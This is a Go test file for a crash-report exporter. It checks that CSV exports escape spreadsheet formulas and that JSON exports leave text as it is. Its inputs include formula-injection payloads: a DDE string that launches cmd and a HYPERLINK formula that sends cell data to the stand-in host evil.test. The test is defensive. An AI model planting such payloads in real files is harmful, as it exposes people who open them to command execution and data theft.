package clickhouse_test

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"aftershock/internal/spreadsheet"
	"aftershock/schema"
	"aftershock/sinks"
	"aftershock/sinks/clickhouse"
)

// A file of CSV has no formula, of what is public and of what is protected, whatever a report says; the
// other formats have texts as they are.
func TestExportedCSVHasNoFormulas(t *testing.T) {
	db, _ := open(t)
	texts := []string{"=1+1", "+cmd|' /C calc'!A0", "-2+3", "-7", "@SUM(A1)", "\t=1", " \n=1", "＝1", `=HYPERLINK("https://evil.test?x="&A1,"a")`, `a"=1`, "plain, with a comma", "line\nline", `\N`}
	var rows []sinks.Row
	for n, text := range texts {
		r := row(id(n, "261122"), 1, 1, int64(n), noon, text)
		r.Processed.Crash.Reason = text
		r.Processed.Annotations = append(slices.Clone(r.Processed.Annotations), schema.Annotation{Name: "Comments", Value: text})
		slices.SortFunc(r.Processed.Annotations, func(a, b schema.Annotation) int { return strings.Compare(a.Name, b.Name) })
		rows = append(rows, r)
	}
	if err := db.Write(t.Context(), rows); err != nil {
		t.Fatal(err)
	}
	if err := db.Activate(t.Context(), activation(1, all(1))); err != nil {
		t.Fatal(err)
	}
	for _, protected := range []bool{false, true} {
		e := clickhouse.Export{Of: clickhouse.Reports, Protected: protected, Format: "CSVWithNames"}
		if protected {
			e.Columns = []string{"crash_id", "comments"}
		} else {
			e.Columns = []string{"signature", "reason"}
		}
		exported := func() string {
			var out strings.Builder
			if err := db.ExportTo(t.Context(), e, noon, &out); err != nil {
				t.Fatal(err)
			}
			return out.String()
		}
		file := exported()
		table, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil || len(table) != len(texts)+1 || !slices.Equal(table[0], e.Columns) {
			t.Fatalf("%v: %q", err, file)
		}
		for n, cells := range table[1:] {
			if want := spreadsheet.Row([]string{texts[n]})[0]; cells[1] != want || !protected && cells[0] != want {
				t.Errorf("%q, want %q", cells, want)
			}
		}
		e.Columns = nil // all there are
		whole, err := csv.NewReader(strings.NewReader(exported())).ReadAll()
		if err != nil || len(whole) != len(table) || len(whole[0]) < 20 {
			t.Fatalf("%v: %d lines", err, len(whole))
		}
		for _, cells := range whole[1:] {
			if safe := spreadsheet.Row(cells); !slices.Equal(safe, cells) {
				t.Errorf("formulas in %q", cells)
			}
		}
		e.Format = "JSONEachRow"
		if text := exported(); !strings.Contains(text, `"=1+1"`) || strings.Contains(text, "'=1") {
			t.Errorf("JSON: %s", text)
		}
	}
}
